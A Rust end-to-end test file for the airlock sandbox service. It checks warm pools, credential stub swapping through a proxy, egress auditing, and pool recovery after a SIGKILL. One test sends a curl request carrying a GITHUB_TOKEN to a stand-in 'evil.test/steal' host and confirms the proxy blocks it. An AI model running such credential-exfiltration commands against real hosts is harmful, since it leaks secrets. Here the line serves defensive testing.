//! End to end: warm pools on the real docker engine (DESIGN.md, "Warm pools and snapshots").
//! A real brain keeps `pools: [{backend: docker, size: N}]` sandboxes started with no grant;
//! `POST /v1/sandboxes` claims one and attaches the grant through the agent's `/configure`.
//!
//! The image must hold an agent with `POST /configure`: `AIRLOCK_SANDBOX_IMAGE` (default
//! `airlock-sandbox:latest`). Each test names its containers with its own prefix, so
//! counting them is not disturbed by other tests sharing the engine. Skips when no engine
//! or image is there, unless `AIRLOCK_REQUIRE_DOCKER=1`.

use std::collections::{BTreeMap, BTreeSet};
use std::time::Duration;

use airlock_tests::upstream::Upstream;
use airlock_tests::vault::{self, DockerPrefix, brain_options, docker_cli, write_vault_config};
use airlock_tests::{BrainOptions, BrainProcess, StatusCode};
use serde_json::{Value, json};

const REAL_TOKEN: &str = "ghp_REALsecretVALUE0123456789abcdefghij";

fn docker_ready() -> bool {
    vault::docker_ready("pools e2e")
}

/// Per-test container/network prefix (removed on drop), and the YAML that sets it plus the
/// pool.
struct Naming(DockerPrefix);

impl Naming {
    fn new() -> Self {
        Self(DockerPrefix::new("alkpool"))
    }

    fn yaml(&self, size: usize) -> String {
        format!(
            "{}pools:\n  - {{backend: docker, size: {size}}}\n",
            self.0.docker_yaml()
        )
    }

    /// [`Naming::yaml`] with sandboxes on networks of their own (and spare networks).
    fn yaml_with_networks(&self, size: usize) -> String {
        format!(
            "{}    network: internal\npools:\n  - {{backend: docker, size: {size}}}\n",
            self.0.docker_yaml()
        )
    }

    /// One `docker ps --format` field of every container with our prefix (running or not),
    /// split at commas (a list field) and newlines.
    fn containers_field(&self, format: &str) -> BTreeSet<String> {
        let filter = format!("name=^{}", self.0.prefix);
        docker_cli(&["ps", "-a", "--filter", &filter, "--format", format])
            .split([',', '\n'])
            .map(str::trim)
            .filter(|l| !l.is_empty())
            .map(str::to_string)
            .collect()
    }

    /// Sandbox ids of every container with our prefix (running or not).
    fn sandbox_ids(&self) -> BTreeSet<String> {
        self.containers_field("{{.Label \"airlock.sandbox\"}}")
    }

    /// Names of the networks our sandboxes' containers are on.
    fn sandbox_networks(&self) -> BTreeSet<String> {
        self.containers_field("{{.Networks}}")
    }

    /// Names of our networks with `label` (e.g. the spare label of one brain process).
    fn networks_labelled(&self, label: &str) -> BTreeSet<String> {
        docker_cli(&[
            "network",
            "ls",
            "--filter",
            &format!("name=^{}net-", self.0.prefix),
            "--filter",
            &format!("label={label}"),
            "--format",
            "{{.Name}}",
        ])
        .lines()
        .map(str::to_string)
        .collect()
    }

    fn networks(&self) -> usize {
        self.0.networks().len()
    }

    /// Our networks with the pid of the brain whose spare each was ("" if none), in one
    /// listing, so that a spare the running brain makes meanwhile cannot be counted in one
    /// list and missed in another.
    fn networks_by_spare_pid(&self) -> BTreeMap<String, String> {
        docker_cli(&[
            "network",
            "ls",
            "--filter",
            &format!("name=^{}net-", self.0.prefix),
            "--format",
            "{{.Name}} {{.Label \"airlock.spare.pid\"}}",
        ])
        .lines()
        .filter_map(|l| {
            let (name, pid) = l.split_once(' ').unwrap_or((l, ""));
            (!name.is_empty()).then(|| (name.to_string(), pid.trim().to_string()))
        })
        .collect()
    }
}

async fn metrics(brain: &BrainProcess) -> String {
    brain
        .http
        .get(brain.url("/metrics"))
        .send()
        .await
        .expect("GET /metrics")
        .text()
        .await
        .unwrap_or_default()
}

fn metric(text: &str, line_prefix: &str) -> Option<u64> {
    text.lines()
        .find(|l| l.starts_with(line_prefix))
        .and_then(|l| l.rsplit(' ').next())
        .and_then(|n| n.parse().ok())
}

/// Waits until the docker pool reports `n` ready sandboxes.
async fn wait_ready(brain: &BrainProcess, n: u64) {
    wait_ready_on(brain, "docker", n).await
}

/// Waits until `backend`'s pool reports `n` ready sandboxes.
async fn wait_ready_on(brain: &BrainProcess, backend: &str, n: u64) {
    for _ in 0..600 {
        let text = metrics(brain).await;
        if metric(
            &text,
            &format!("airlock_brain_pool_ready_sandboxes{{backend=\"{backend}\"}}"),
        ) == Some(n)
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!(
        "pool never reached {n} ready sandboxes; metrics:\n{}\nlog:\n{}",
        metrics(brain).await,
        brain.log()
    );
}

async fn provision(brain: &BrainProcess, body: Value) -> String {
    let (status, v) = brain.post_json("/v1/sandboxes", &body).await;
    assert_eq!(status, StatusCode::CREATED, "{v}\n{}", brain.log());
    v["id"].as_str().expect("id").to_string()
}

async fn sh(brain: &BrainProcess, id: &str, command: &str) -> (i64, String, String) {
    let (status, v) = brain
        .post_json(
            &format!("/v1/sandboxes/{id}/exec"),
            json!({"command": command, "timeout_s": 60}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "exec: {v}");
    (
        v["exit_code"].as_i64().unwrap_or(-1),
        v["stdout"].as_str().unwrap_or_default().to_string(),
        v["stderr"].as_str().unwrap_or_default().to_string(),
    )
}

/// Sandbox ids the API shows as live (claimed ones; pooled ones are hidden).
async fn live_ids(brain: &BrainProcess) -> BTreeSet<String> {
    let (_, v) = brain.get_json("/v1/sandboxes").await;
    v["sandboxes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["status"] == "running")
        .map(|s| s["id"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test]
async fn pooled_sandbox_first_exec_sees_stubs_proxy_and_ca_and_its_egress_is_swapped_and_audited() {
    if !docker_ready() {
        return;
    }
    let naming = Naming::new();
    let upstream = Upstream::start(REAL_TOKEN).await;
    let port = upstream.port;
    let dir = tempfile::tempdir().unwrap();
    let vault_yaml = write_vault_config(dir.path(), &upstream);
    let mut opts = brain_options("docker", &vault_yaml, REAL_TOKEN);
    opts.extra_yaml.push_str(&naming.yaml(2));
    let brain = BrainProcess::start(opts).await;
    wait_ready(&brain, 2).await;
    let pooled = naming.sandbox_ids();
    assert_eq!(pooled.len(), 2, "{pooled:?}");

    // A pooled sandbox has no grant: nothing of the proxy, stubs or CA in its container env.
    for id in &pooled {
        let env = docker_cli(&[
            "inspect",
            "-f",
            "{{json .Config.Env}}",
            &format!("{}{id}", naming.0.prefix),
        ]);
        assert!(
            !env.contains("PROXY") && !env.contains("GITHUB_TOKEN") && !env.contains("SSL_CERT"),
            "{env}"
        );
    }

    let id = provision(&brain, json!({"credentials": ["GITHUB_TOKEN"]})).await;
    assert!(
        pooled.contains(&id),
        "{id} was not claimed from the pool {pooled:?}"
    );
    let text = metrics(&brain).await;
    assert_eq!(
        metric(&text, "airlock_brain_pool_claims_total{backend=\"docker\"}"),
        Some(1),
        "{text}"
    );

    // The very first command sees the stub, the proxy and the CA.
    let (code, env, err) = sh(&brain, &id, "env").await;
    assert_eq!(code, 0, "{err}");
    let stub = env
        .lines()
        .find_map(|l| l.strip_prefix("GITHUB_TOKEN="))
        .expect("stub env var")
        .to_string();
    assert!(stub.starts_with("ghp_") && stub.len() == REAL_TOKEN.len() && stub != REAL_TOKEN);
    assert!(!env.contains(REAL_TOKEN));
    assert!(
        env.contains(&format!("HTTPS_PROXY=http://{id}:")) && env.contains("@127.0.0.1:3128"),
        "{env}"
    );
    for key in [
        "SSL_CERT_FILE",
        "REQUESTS_CA_BUNDLE",
        "CURL_CA_BUNDLE",
        "GIT_SSL_CAINFO",
    ] {
        assert!(
            env.contains(&format!("{key}=/etc/airlock/ca.pem")),
            "{key}: {env}"
        );
    }
    assert!(!env.contains("AIRLOCK_AGENT_TOKEN"), "{env}");
    let (code, out, _) = sh(
        &brain,
        &id,
        "cmp /etc/airlock/ca.pem /etc/ssl/certs/ca-certificates.crt && grep -c BEGIN /etc/airlock/ca.pem",
    )
    .await;
    assert_eq!(
        (code, out.trim()),
        (0, "1"),
        "the proxy CA is the trust store"
    );
    // Read-only for the sandbox user, like a cold sandbox's.
    let (code, _, _) = sh(&brain, &id, "echo x >> /etc/airlock/ca.pem").await;
    assert_ne!(code, 0);

    // Egress: the stub is swapped toward the bound host…
    let (code, out, err) = sh(
        &brain,
        &id,
        &format!(
            "curl -sS -m 20 https://api.github.test:{port}/user -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert_eq!(
        (code, out.trim()),
        (0, "ok /user"),
        "{err}\n{}",
        brain.log()
    );
    let seen = upstream.with_path("/user");
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(
        seen[0].authorization.as_deref(),
        Some(format!("Bearer {REAL_TOKEN}").as_str())
    );
    // … and blocked toward another.
    let (_, out, _) = sh(
        &brain,
        &id,
        &format!(
            "curl -sS -m 20 -w '\\n%{{http_code}}' https://evil.test:{port}/steal -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert!(out.trim_end().ends_with("403"), "{out}");
    assert!(upstream.with_path("/steal").is_empty());

    // Both audited under the claimed sandbox's id.
    let (status, records) = brain
        .get_json(&format!("/v1/audit/egress?sandbox={id}"))
        .await;
    assert_eq!(status, StatusCode::OK);
    let list = records.as_array().unwrap();
    let has = |event: &str, decision: &str| {
        list.iter().any(|r| {
            r["event"] == event && r["decision"] == decision && r["credential"] == "GITHUB_TOKEN"
        })
    };
    assert!(has("swap", "allow") && has("block", "deny"), "{records}");
    assert!(!records.to_string().contains(&stub));

    // A request the pool does not match (other resources) is served cold, a miss.
    let cold = provision(&brain, json!({"resources": {"memory_mb": 300}})).await;
    assert!(!pooled.contains(&cold));
    let text = metrics(&brain).await;
    assert_eq!(
        metric(&text, "airlock_brain_pool_claims_total{backend=\"docker\"}"),
        Some(1)
    );
    let _ = brain.delete(&format!("/v1/sandboxes/{cold}")).await;
    let _ = brain.delete(&format!("/v1/sandboxes/{id}")).await;
}

#[tokio::test]
async fn claimed_sandboxes_never_return_to_the_pool() {
    if !docker_ready() {
        return;
    }
    let naming = Naming::new();
    let brain = BrainProcess::start(BrainOptions {
        backend: "docker".into(),
        extra_yaml: naming.yaml(2),
        ..Default::default()
    })
    .await;
    wait_ready(&brain, 2).await;
    let mut claimed = BTreeSet::new();
    for round in 0..3 {
        let before = naming.sandbox_ids();
        let id = provision(&brain, json!({})).await;
        assert!(
            before.contains(&id),
            "round {round}: {id} not from the pool"
        );
        assert!(claimed.insert(id.clone()), "{id} handed out twice");
        // Used, then deleted: it must never show up again.
        let (code, _, _) = sh(&brain, &id, "echo used > /workspace/mark").await;
        assert_eq!(code, 0);
        let (status, _) = brain.delete(&format!("/v1/sandboxes/{id}")).await;
        assert_eq!(status, StatusCode::OK);
        wait_ready(&brain, 2).await;
        let now = naming.sandbox_ids();
        assert!(
            now.is_disjoint(&claimed),
            "a claimed sandbox is back: {now:?} {claimed:?}"
        );
        assert_eq!(now.len(), 2, "{now:?}");
    }
    // A claimed sandbox still running is not in the pool either.
    let kept = provision(&brain, json!({})).await;
    wait_ready(&brain, 2).await;
    let all = naming.sandbox_ids();
    assert_eq!(all.len(), 3, "{all:?}");
    assert_eq!(live_ids(&brain).await, BTreeSet::from([kept.clone()]));
    // Pooled sandboxes are invisible to the API.
    for id in all.iter().filter(|i| **i != kept) {
        let (status, _) = brain.get_json(&format!("/v1/sandboxes/{id}")).await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        let (status, _) = brain
            .post_json(
                &format!("/v1/sandboxes/{id}/exec"),
                json!({"command": "true"}),
            )
            .await;
        assert_eq!(status, StatusCode::NOT_FOUND, "exec into a pooled sandbox");
    }
    let _ = brain.delete(&format!("/v1/sandboxes/{kept}")).await;
}

#[tokio::test]
async fn pool_survives_a_brain_sigkill_with_no_orphan_and_drains_on_shutdown() {
    if !docker_ready() {
        return;
    }
    let naming = Naming::new();
    let mut brain = BrainProcess::start(BrainOptions {
        backend: "docker".into(),
        // Networks, so that leaked ones (spares of the killed brain) would be seen.
        extra_yaml: naming.yaml_with_networks(2),
        ..Default::default()
    })
    .await;
    wait_ready(&brain, 2).await;
    let claimed = provision(&brain, json!({})).await;
    wait_ready(&brain, 2).await;
    let before = naming.sandbox_ids();
    assert_eq!(before.len(), 3, "{before:?}");
    let killed_pid = brain.pid().expect("brain runs");
    let killed_spares = format!("airlock.spare.pid={killed_pid}");

    brain.kill9();
    brain.restart().await;
    wait_ready(&brain, 2).await;
    // The same sandboxes: the pool was adopted, nothing new made, nothing orphaned.
    assert_eq!(naming.sandbox_ids(), before, "{}", brain.log());
    // One network per sandbox, none shared; of the killed brain's spare networks only those
    // its sandboxes took are left (the restart's sweep removed the free ones).
    let in_use = naming.sandbox_networks();
    assert_eq!(in_use.len(), 3, "{in_use:?}");
    let left = naming.networks_labelled(&killed_spares);
    assert!(
        left.is_subset(&in_use),
        "leaked spares {left:?}; in use {in_use:?}"
    );
    // Every other network of ours is a spare of the running brain (at most spare_networks).
    // One listing: the running brain may be making its second spare while we look.
    let pid = brain.pid().expect("brain runs").to_string();
    let all = naming.networks_by_spare_pid();
    let free: BTreeMap<_, _> = all.iter().filter(|(n, _)| !in_use.contains(*n)).collect();
    assert!(
        free.values().all(|p| **p == pid) && free.len() <= 2,
        "networks not in use must be spares of the running brain {pid}: {free:?}"
    );
    assert!(
        in_use.iter().all(|n| all.contains_key(n)),
        "{all:?} {in_use:?}"
    );
    assert!(brain.log().contains("adopted pooled sandbox"));
    let (code, out, _) = sh(&brain, &claimed, "echo alive").await;
    assert_eq!((code, out.as_str()), (0, "alive\n"));
    // An adopted pooled sandbox is still claimable and configured at the claim.
    let id = provision(&brain, json!({})).await;
    assert!(before.contains(&id));
    let (code, out, _) = sh(&brain, &id, "echo ok").await;
    assert_eq!((code, out.as_str()), (0, "ok\n"));
    wait_ready(&brain, 2).await;

    // Graceful shutdown drains the pool; claimed sandboxes stay for adoption.
    brain.terminate();
    let left = naming.sandbox_ids();
    assert_eq!(
        left,
        BTreeSet::from([claimed.clone(), id.clone()]),
        "pool not drained"
    );
    // The free spare networks are removed on shutdown: only the two sandboxes' are left.
    assert_eq!(naming.networks(), 2, "{:?}", naming.sandbox_networks());

    // The next start adopts the claimed ones and refills the pool with new sandboxes.
    brain.restart().await;
    wait_ready(&brain, 2).await;
    let now = naming.sandbox_ids();
    assert!(now.is_superset(&left) && now.len() == 4, "{now:?}");
    for gone in [&claimed, &id] {
        let (status, _) = brain.delete(&format!("/v1/sandboxes/{gone}")).await;
        assert_eq!(status, StatusCode::OK);
    }
    brain.terminate();
    assert!(
        naming.sandbox_ids().is_empty(),
        "{:?}",
        naming.sandbox_ids()
    );
    assert_eq!(naming.networks(), 0);
}

/// Issue 16 item 3: warm pools on the local backend (no engine needed). A pooled local
/// sandbox has no grant; the claim stages the CA under the sandbox's own directory, points
/// the CA env vars there and hands the env to the agent's `/configure`, so the first exec
/// sees the stub and the proxy, and its egress is swapped. A claimed sandbox never returns.
#[tokio::test]
async fn local_pool_claim_attaches_the_grant_and_egress_is_swapped() {
    let upstream = Upstream::start(REAL_TOKEN).await;
    let port = upstream.port;
    let dir = tempfile::tempdir().unwrap();
    let vault_yaml = write_vault_config(dir.path(), &upstream);
    let mut opts = brain_options("local", &vault_yaml, REAL_TOKEN);
    opts.extra_yaml
        .push_str("pools:\n  - {backend: local, size: 2}\n");
    let brain = BrainProcess::start(opts).await;
    wait_ready_on(&brain, "local", 2).await;
    assert!(
        live_ids(&brain).await.is_empty(),
        "pooled sandboxes are hidden"
    );

    let id = provision(&brain, json!({"credentials": ["GITHUB_TOKEN"]})).await;
    let text = metrics(&brain).await;
    assert_eq!(
        metric(&text, "airlock_brain_pool_claims_total{backend=\"local\"}"),
        Some(1),
        "{text}"
    );
    let (code, env, err) = sh(&brain, &id, "env").await;
    assert_eq!(code, 0, "{err}");
    let stub = env
        .lines()
        .find_map(|l| l.strip_prefix("GITHUB_TOKEN="))
        .expect("stub env var")
        .to_string();
    assert!(stub.starts_with("ghp_") && stub != REAL_TOKEN, "{stub}");
    assert!(env.contains(&format!("HTTPS_PROXY=http://{id}:")), "{env}");
    let ca = env
        .lines()
        .find_map(|l| l.strip_prefix("SSL_CERT_FILE="))
        .expect("CA env var")
        .to_string();
    assert!(
        !ca.starts_with("/etc/"),
        "staged in the sandbox's directory: {ca}"
    );
    let (code, out, _) = sh(
        &brain,
        &id,
        "grep -c 'BEGIN CERTIFICATE' \"$SSL_CERT_FILE\"",
    )
    .await;
    assert_eq!((code, out.trim()), (0, "1"));
    let (code, out, err) = sh(
        &brain,
        &id,
        &format!(
            "curl -sS -m 20 https://api.github.test:{port}/user -H \"Authorization: Bearer $GITHUB_TOKEN\""
        ),
    )
    .await;
    assert_eq!(
        (code, out.trim()),
        (0, "ok /user"),
        "{err}\n{}",
        brain.log()
    );
    let seen = upstream.with_path("/user");
    assert_eq!(
        seen[0].authorization.as_deref(),
        Some(format!("Bearer {REAL_TOKEN}").as_str())
    );
    // Refilled to 2 without the claimed one, which stays a live sandbox after its delete.
    wait_ready_on(&brain, "local", 2).await;
    let (status, _) = brain.delete(&format!("/v1/sandboxes/{id}")).await;
    assert_eq!(status, StatusCode::OK);
    let second = provision(&brain, json!({})).await;
    assert_ne!(second, id);
    let (_, row) = brain.get_json(&format!("/v1/sandboxes/{id}")).await;
    assert_eq!(row["status"], "destroyed", "{row}");
    let _ = brain.delete(&format!("/v1/sandboxes/{second}")).await;
}

/// Issue 16 item 3: a local pool survives a brain SIGKILL (its agents keep running and are
/// adopted, nothing new is made) and drains on a graceful shutdown, leaving the claimed one.
#[tokio::test]
async fn local_pool_survives_a_brain_sigkill_and_drains_on_shutdown() {
    let mut brain = BrainProcess::start(BrainOptions {
        backend: "local".into(),
        extra_yaml: "pools:\n  - {backend: local, size: 2}\n".into(),
        ..Default::default()
    })
    .await;
    let root = brain.data_dir().join("sandboxes");
    let dirs = move || -> BTreeSet<String> {
        std::fs::read_dir(&root)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter_map(|e| {
                e.file_name()
                    .to_str()?
                    .strip_prefix("airlock-sb-")
                    .map(str::to_string)
            })
            .collect()
    };
    wait_ready_on(&brain, "local", 2).await;
    let before = dirs();
    assert_eq!(before.len(), 2, "{before:?}");

    brain.kill9();
    brain.restart().await;
    wait_ready_on(&brain, "local", 2).await;
    assert_eq!(dirs(), before, "{}", brain.log());
    assert!(
        brain.log().contains("adopted pooled sandbox"),
        "{}",
        brain.log()
    );
    let id = provision(&brain, json!({})).await;
    assert!(
        before.contains(&id),
        "{id} not from the adopted pool {before:?}"
    );
    let (code, out, _) = sh(&brain, &id, "echo ok").await;
    assert_eq!((code, out.as_str()), (0, "ok\n"));
    wait_ready_on(&brain, "local", 2).await;

    brain.terminate();
    assert_eq!(dirs(), BTreeSet::from([id.clone()]), "pool not drained");
    brain.restart().await;
    let (status, _) = brain.delete(&format!("/v1/sandboxes/{id}")).await;
    assert_eq!(status, StatusCode::OK);
}
